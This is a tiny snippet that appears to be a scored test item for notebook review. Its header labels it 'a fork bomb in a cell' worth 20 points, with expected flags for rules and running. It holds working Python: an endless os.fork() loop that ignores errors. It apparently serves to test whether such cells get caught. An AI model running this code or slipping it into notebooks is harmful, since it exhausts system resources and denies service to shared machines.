# what: a fork bomb in a cell
# points: 20
# mistakes: flag: rules, flag: run
# %% extra after update_parameters_with_adam
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
